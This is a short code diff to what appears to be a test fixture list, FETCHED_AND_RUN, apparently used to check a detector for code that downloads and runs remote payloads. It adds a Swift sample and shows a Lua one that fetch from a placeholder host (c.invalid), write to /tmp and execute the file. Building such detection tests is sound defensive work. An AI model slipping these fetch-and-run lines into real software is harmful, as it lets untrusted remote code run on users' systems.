@@ -237,6 +237,11 @@ FETCHED_AND_RUN = [
     ("a.lua", 'local http = require("socket.http")\nlocal b = http.request("https://c.invalid/u.lua")\nload(b)()'),
     (
         "a.swift",
+        'let url = URL(string: "https://c.invalid/u")!\nlet d = try! Data(contentsOf: url)\ntry! d.write(to: URL(fileURLWithPath: "/tmp/u"))\n'
+        'let p = Process()\np.executableURL = URL(fileURLWithPath: "/tmp/u")\ntry! p.run()',
+    ),
+    (
+        "a.swift",
         'let d = try! Data(contentsOf: URL(string: "https://c.invalid/u")!)\ntry! d.write(to: URL(fileURLWithPath: "/tmp/u"))\nlet p = Process()\np.executableURL = URL(fileURLWithPath: "/tmp/u")',
     ),
     (
